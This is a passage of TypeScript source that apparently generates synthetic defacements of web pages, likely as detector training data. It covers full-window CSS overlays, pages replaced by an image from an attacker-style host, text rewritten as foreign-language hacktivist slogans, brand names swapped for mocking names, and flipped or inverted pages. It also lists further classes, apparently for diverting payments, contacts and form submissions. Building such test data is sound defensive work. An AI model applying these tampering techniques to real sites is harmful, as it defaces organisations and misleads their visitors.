  const box = full ? "position:fixed;inset:0;display:flex;align-items:center;justify-content:center;padding:8vh 8vw" : `position:fixed;left:0;right:0;${pick(rng, ["top", "bottom"])}:0;padding:1.2em`
  const css = `${pseudo}{content:${cssString(message(rng))};${box};z-index:${pick(rng, ["2147483647", "99999", "1000000"])};background:${bg};color:${fg};font:700 ${pick(rng, ["2.2em", "28px", "4vw", "1.6rem"])}/1.3 ${pick(rng, ["monospace", "Impact,sans-serif", "Arial,sans-serif", "'Courier New',monospace"])};text-align:center;white-space:pre-wrap}${full && chance(rng, 0.4) ? "html,body{overflow:hidden!important}" : ""}`
  return splices(insert(pick(rng, [head(page), head(page), top(page)]), `<style>${css}</style>`))
})

// The page as a single picture, recalled from memory of defacements whose whole index file is one full-window image (a screenshot of the message, so no words for filters to catch), sometimes linked: the document replaced by a body holding one picture from another host.
const bodyOnePicture: ChangeClass = {
  name: "whole document replaced by a body holding one full-window picture from another host (no text, sometimes linked), the title kept or emptied",
  kind: "defacement",
  group: "fresh30",
  wholePage: true,
  make: (page, rng) => {
    const host = evilHost(rng, page)
    const img = `https://${host}/${pick(rng, ["i", "img", "up", "files"])}/${alnum(rng, between(rng, 6, 12))}.${pick(rng, ["jpg", "png", "gif", "webp"])}`
    const title = page.spots.title === null ? "" : page.html.slice(page.spots.title.start, page.spots.title.end)
    const t = pick(rng, [title, title, "", esc(nick(rng))])
    const pic = `<img src="${img}" alt="" style="${pick(rng, ["width:100%;height:100vh;object-fit:contain", "max-width:100%;display:block;margin:0 auto", "width:100vw;height:100vh;object-fit:cover"])}">`
    const inner = chance(rng, 0.3) ? `<a href="https://${evilHost(rng, page)}/">${pic}</a>` : pic
    return { html: `<!DOCTYPE html>\n<html><head><meta charset="utf-8">${t === "" ? "" : `<title>${t}</title>`}<meta name="viewport" content="width=device-width,initial-scale=1"></head><body style="margin:0;background:${pick(rng, ["#000", "#fff", "#111"])}">${inner}</body></html>\n` }
  }
}

const otherScripts: ReadonlyArray<{ readonly lang: string; readonly rtl: boolean; readonly lines: ReadonlyArray<string> }> = [
  { lang: "ar", rtl: true, lines: ["هذا الموقع أصبح تحت سيطرتنا", "نحن لا ننسى ولا نسامح", "رسالتنا إلى العالم واضحة", "الحرية لشعبنا", "لن نصمت بعد اليوم", "أمنكم مجرد وهم"] },
  { lang: "fa", rtl: true, lines: ["این سایت در کنترل ماست", "صدای ما را بشنوید", "ما همه جا هستیم", "امنیت شما یک شوخی است", "آزادی برای همه"] },
  { lang: "ru", rtl: false, lines: ["Этот сайт теперь говорит нашими словами.", "Мы были здесь и вернёмся снова.", "Ваша безопасность — иллюзия.", "Правда всегда выходит наружу.", "Мы не будем молчать."] },
  { lang: "zh", rtl: false, lines: ["这个网站已经被我们接管。", "你们的安全只是幻觉。", "我们无处不在。", "真相终将大白。", "我们不会沉默。"] },
  { lang: "hi", rtl: false, lines: ["यह वेबसाइट अब हमारे नियंत्रण में है।", "हम हर जगह हैं।", "सच सामने आएगा।", "आपकी सुरक्षा एक भ्रम है।"] },
  { lang: "ja", rtl: false, lines: ["このサイトは私たちが乗っ取りました。", "あなたたちのセキュリティは幻想だ。", "私たちはどこにでもいる。"] },
  { lang: "ko", rtl: false, lines: ["이 사이트는 이제 우리가 장악했다.", "당신들의 보안은 환상일 뿐이다.", "우리는 어디에나 있다."] },
  { lang: "he", rtl: true, lines: ["האתר הזה נמצא עכשיו בשליטתנו.", "האבטחה שלכם היא אשליה.", "אנחנו בכל מקום."] },
  { lang: "el", rtl: false, lines: ["Αυτός ο ιστότοπος είναι πλέον υπό τον έλεγχό μας.", "Η ασφάλειά σας είναι ψευδαίσθηση.", "Είμαστε παντού."] }
]

// The page in another script, recalled from memory of defacements that keep the site's layout and replace its words with the intruder's language (a database-wide find-and-replace, or a translated template): most of the page's visible text rewritten in place in another script (Arabic, Persian, Cyrillic, Chinese, Devanagari, Japanese, Korean, Hebrew, Greek), markup and links kept, the html element's lang and dir set.
const otherScriptRewrite = fresh30("most of the page's visible text rewritten in place in another script (Arabic, Persian, Cyrillic, Chinese, Devanagari, Japanese, Korean, Hebrew, Greek), markup and links kept, lang and dir set on the html element", (page, rng) => {
  const s = pick(rng, otherScripts)
  const lines = shuffle(rng, s.lines)
  const runs = textRuns(page, 2)
  const share = 0.6 + 0.4 * rng()
  const out: Array<Splice> = []
  let k = 0
  for (const t of runs) {
    if (rng() > share) continue
    const r = trimmed(page, t)
    const len = r.end - r.start
    const line = lines[k++ % lines.length]!
    out.push(replace(r, esc(len < 12 ? line.split(/\s+/).slice(0, 2).join(" ") : line)))
  }
  if (page.spots.title !== null && chance(rng, 0.8)) out.push(replace(page.spots.title, esc(lines[0]!)))
  const html = page.spots.elements.find((e) => e.name === "html" && usable(page, e))
  if (html !== undefined) {
    out.push(setAttr(page, html, "lang", s.lang))
    if (s.rtl) out.push(setAttr(page, html, "dir", "rtl"))
  }
  if (out.length === 0) out.push(insert(top(page), `<p>${esc(lines.join(" "))}</p>`))
  return { splices: out }
})

const mockNames: T<ReadonlyArray<string>> = {
  en: ["{B} Scam", "Scam{B}", "{B}Leaks", "Fake {B}", "{B} Liars", "Corrupt {B}"],
  fr: ["{B} Arnaque", "Arnaque{B}", "{B} Menteurs", "Faux {B}"],
  de: ["{B} Betrug", "Betrüger-{B}", "{B} Lügner", "Fake-{B}"],
  es: ["{B} Estafa", "Estafa{B}", "{B} Mentirosos", "Falso {B}"],
  nl: ["{B} Oplichting", "Oplichter{B}", "{B} Leugenaars", "Nep-{B}"],
  pt: ["{B} Golpe", "Golpe{B}", "{B} Mentirosos", "Falso {B}"],
  it: ["{B} Truffa", "Truffa{B}", "{B} Bugiardi", "Falso {B}"]
}

// A find-and-replace across the page, recalled from memory of hacktivist and disgruntled-insider defacements that replace an organisation's or a politician's name everywhere in the text (a database-wide search-and-replace) and leave everything else: the site's name replaced in its visible text and title by a mocking name or a crew's name; e-mail addresses and URLs are left alone.
const nameReplacedEverywhere = fresh30("organisation's name replaced wherever it appears in the page's visible text and title by a mocking name or a crew's name (addresses and URLs left alone)", (page, rng) => {
  const label = page.site.brand
  const B = brandName(page)
  const repl = chance(rng, 0.3) ? team(rng) : pick(rng, siteOr(rng, page, mockNames)).replace("{B}", B)
  const re = new RegExp(`(^|[^\\w@./-])(${label.replace(/-/g, "[ -]?")})(?![\\w@]|\\.[a-z])`, "gi")
  const out: Array<Splice> = []
  const scan = (start: number, end: number) => {
    const text = page.html.slice(start, end)
    for (const m of text.matchAll(re)) {
      const at = start + m.index! + m[1]!.length
      out.push(replace({ start: at, end: at + m[2]!.length }, esc(repl)))
    }
  }
  for (const t of page.spots.texts) scan(t.start, t.end)
  if (page.spots.title !== null) scan(page.spots.title.start, page.spots.title.end)
  if (out.length > 0) return { splices: out }
  if (page.spots.title !== null) return splices(replace(page.spots.title, esc(repl)))
  const h = shown(page, "h1").concat(shown(page, "h2")).find((e) => e.closeTag !== null)
  return splices(h === undefined ? insert(top(page), `<h1>${esc(repl)}</h1>`) : replace({ start: h.openEnd, end: h.closeTag!.start }, esc(repl)))
})

// One CSS rule, loud, recalled from memory of prank defacements (the "upside-down-ternet", inverted colours, every picture flipped) done through a custom-CSS field or one style attribute: the page or its pictures flipped, mirrored, rotated or inverted by one rule, no word added.
const flippedByCss = fresh30("page or all its pictures flipped, mirrored, rotated or colour-inverted by one injected CSS rule or a style attribute on html/body, no word added", (page, rng) => {
  const rule = pick(rng, ["transform:rotate(180deg)", "transform:scaleX(-1)", "transform:scaleY(-1)", "filter:invert(1) hue-rotate(180deg)", `transform:rotate(${pick(rng, [-8, -5, 5, 8, 90])}deg)`, "filter:grayscale(1) blur(2px)"])
  const target = pick(rng, ["html", "body", "img", "body > *"])
  const body = page.spots.elements.find((e) => (e.name === "body" || e.name === "html") && usable(page, e) && e.name === target)
  if (body !== undefined && chance(rng, 0.4)) return splices(addStyle(page, body, rule))
  return splices(insert(pick(rng, [head(page), head(page), top(page)]), `<style>${target}{${rule}${chance(rng, 0.5) ? "!important" : ""}}</style>`))
})

/** Every fresh30 defacement class, in a fixed order. */
export const fresh30Defacements: ReadonlyArray<ChangeClass> = [
  accountDigits, telBehindNumber, abroadLineOnly, mailtoDiverted, freemailShown, atNotationLookalike, donationSwap, socialImpostor,
  messengerOnly, emailLineMessenger, secondAccountNote, invoiceMailbox,
  oneActionLink, homoglyphLinks, submitFormaction, hiddenFormField, onsubmitBeacon, pingLinks, mousedownSwap, fileLinkElsewhere,
  pictureElsewhere, dataUrlElsewhere, srcsetHiDpi, ownNamedScript, cdnHostTwisted, foreignStylesheet, canonicalLookalike, alternateLookalike,
  baseFirstInHead, delayedRefresh, iconsManifestLookalike, onerrorLoader, offscreenContact,
  cssOnlyOverlay, bodyOnePicture, otherScriptRewrite, nameReplacedEverywhere, flippedByCss
]
